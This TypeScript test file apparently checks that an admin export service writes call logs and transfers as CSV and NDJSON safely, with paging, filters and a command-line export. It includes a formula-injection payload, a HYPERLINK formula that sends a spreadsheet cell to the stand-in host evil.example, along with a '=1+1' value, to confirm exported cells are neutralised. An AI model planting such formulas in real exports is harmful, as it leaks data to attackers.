import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { names } from '../../lib/runtime/config.ts';
import { connectDocuments } from '../../lib/vendors/dynamodb/documents.ts';
import { runGatehouse } from '../command-line.ts';
import { startGatehouse } from '../gatehouse.ts';
import type { Answer, Gatehouse } from '../gatehouse.ts';

/** More than an answer holds, by size. */
const CALLS = 1_100;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** As the log keeps it: quotes are doubled in CSV. */
const BIG_CALL = {
  service: 'SECOND',
  operation: 'big',
  method: 'GET',
  path: '/big',
  status: 200,
  attempts: 1,
  caller: 'k',
  cached: false,
  stale: false,
  request: '{"q":"'.padEnd(4_000, 'x'),
  response: '"'.repeat(4_000),
};

describe('exports', () => {
  let gatehouse: Gatehouse;
  const folder = mkdtempSync(join(tmpdir(), 'export-'));
  const env = () => ({ GATEHOUSE_URL: gatehouse.url, GATEHOUSE_KEY: gatehouse.stack.adminKey });

  beforeAll(async () => {
    gatehouse = await startGatehouse();
    for (const code of ['FIRST', 'SECOND']) {
      await gatehouse.register({
        code,
        name: code,
        baseUrl: 'http://127.0.0.1:9',
        auth: { type: 'NONE' },
        retry: { networkTimeout: { attempts: 0 } },
        operations: { ping: { method: 'GET', path: '/ping', idempotent: true } },
      });
    }
    await gatehouse.call('FIRST', 'ping', { note: EVIL, lines: 'one\ntwo, "three"', zh: '工单' });
    await gatehouse.call('SECOND', 'ping');
    await fill();
  });
  afterAll(async () => {
    rmSync(folder, { recursive: true });
    await gatehouse.stop();
  });

  /** Calls as the log keeps them, 8 KB each. */
  async function fill(): Promise<void> {
    // The stack sets it for its functions.
    const endpoint = process.env['AWS_ENDPOINT_URL_DYNAMODB']!;
    const documents = connectDocuments({ region: 'us-east-1', endpoint });
    const table = names('local').tables.records;
    const now = Date.now() - 60_000;
    const put = (n: number) => {
      const at = new Date(now - n * 10).toISOString();
      const id = `c${n}`;
      return documents.put(table, {
        pk: `CALLS#SECOND#${n % 4}`,
        sk: `${at}#${id}`,
        ...BIG_CALL,
        id,
        at,
        durationMs: n,
        requestId: `r${n}`,
        expiresAt: Math.floor(now / 1_000) + 86_400,
      });
    };
    const all = Array.from({ length: CALLS }, (_, n) => n);
    while (all.length > 0) await Promise.all(all.splice(0, 20).map(put));
  }

  /** Every page, from link to link. */
  async function pages(path: string): Promise<Answer[]> {
    const found: Answer[] = [];
    for (let next: string | undefined = path; next !== undefined;) {
      const answer = await gatehouse.ask('GET', next);
      expect(answer.status).toBe(200);
      found.push(answer);
      next = /^<(.+)>; rel="next"$/.exec(answer.headers.get('link') ?? '')?.[1];
    }
    return found;
  }
  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it('calls, as CSV that a spreadsheet may open: no cell is a formula, and all else is as it was', async () => {
    const [page, ...others] = await pages('/v1/admin/export/calls?service=FIRST&format=csv');
    expect(others).toEqual([]);
    expect(page!.headers.get('content-type')).toMatch(/^text\/csv/);
    const [row] = rowsOf(page!.text);
    expect(row).toMatchObject({ service: 'FIRST', operation: 'ping', status: '503' });
    expect(JSON.parse(row!['request']!)).toEqual({ note: EVIL, lines: 'one\ntwo, "three"', zh: '工单' });
    expect(page!.text.split('\r\n')[0]).toMatch(/^at,service,/);
  });

  it.each(['csv', 'ndjson'])(
    'all there are as %s, each once, over several pages of at most 5 MB',
    async (format) => {
      const found = await pages(`/v1/admin/export/calls?service=SECOND&format=${format}`);
      expect(found.length).toBeGreaterThan(1);
      for (const { bytes } of found) expect(bytes.length).toBeLessThanOrEqual(5_000_000);
      const ids = found.flatMap(({ text }) =>
        format === 'csv'
          ? rowsOf(text).map(({ id }) => id!)
          : text
              .split('\n')
              .filter((line) => line !== '')
              .map((line) => (JSON.parse(line) as { id: string }).id),
      );
      expect(ids).toHaveLength(CALLS + 1);
      expect(new Set(ids).size).toBe(CALLS + 1);
    },
  );

  it('with the filters of the list', async () => {
    const [page] = await pages('/v1/admin/export/calls?format=ndjson&q=evil.example');
    expect(page!.text.trim().split('\n')).toHaveLength(1);
    const range = 'minDurationMs=10&maxDurationMs=12&operation=big';
    const [some] = await pages(`/v1/admin/export/calls?format=ndjson&${range}`);
    const durations = some!.text
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { durationMs: number }).durationMs);
    expect(durations.toSorted((a, b) => a - b)).toEqual([10, 11, 12]);
    const refused = await gatehouse.ask('GET', '/v1/admin/export/calls?format=xlsx');
    expect([refused.status, refused.at('errors.0.field')]).toEqual([422, 'format']);
  });

  it('transfers and deliveries of a partner', async () => {
    await gatehouse.register({
      code: 'PARTNER',
      name: 'Partner',
      baseUrl: 'http://127.0.0.1:9',
      auth: { type: 'NONE' },
      webhook: { path: 'partner' },
    });
    const order = { service: 'PARTNER', userId: '7', amount: '12.5', reason: '=1+1', transactionId: 'T-1' };
    expect((await gatehouse.ask('POST', '/v1/admin/transfers', { body: order })).status).toBe(201);
    const day = 'from=2020-01-01T00:00:00Z&to=2100-01-01T00:00:00Z';
    const [page] = await pages(`/v1/admin/export/transfers?service=PARTNER&${day}`);
    expect(rowsOf(page!.text)).toMatchObject([
      { transactionId: 'T-1', to: 'user:7', amount: '12.5', reason: "'=1+1" },
    ]);
    const [none] = await pages('/v1/admin/export/deliveries');
    expect(none!.text).toMatch(/^at,service,action,[^\n]*\r\n$/);
  });

  it('by the command line: one file with one head, however many pages', async () => {
    const out = join(folder, 'calls.csv');
    const { code, err } = await runGatehouse(['export', 'calls', '--service', 'SECOND', '--out', out], env());
    expect([code, err]).toEqual([0, expect.stringContaining('MB so far')]);
    expect(rowsOf(readFileSync(out, 'utf8'))).toHaveLength(CALLS + 1);
    const few = await runGatehouse(['export', 'calls', '--service', 'NONE', '--attempts', '3'], env());
    expect([few.code, few.err, few.out]).toEqual([0, '', expect.stringMatching(/^at,[^\n]*\r\n$/)]);
    const lost = await runGatehouse(['export', 'calls', '--out', join(folder, 'no', 'such', 'place')], env());
    expect([lost.code, lost.err]).toEqual([1, expect.stringContaining('place')]);
  });
});
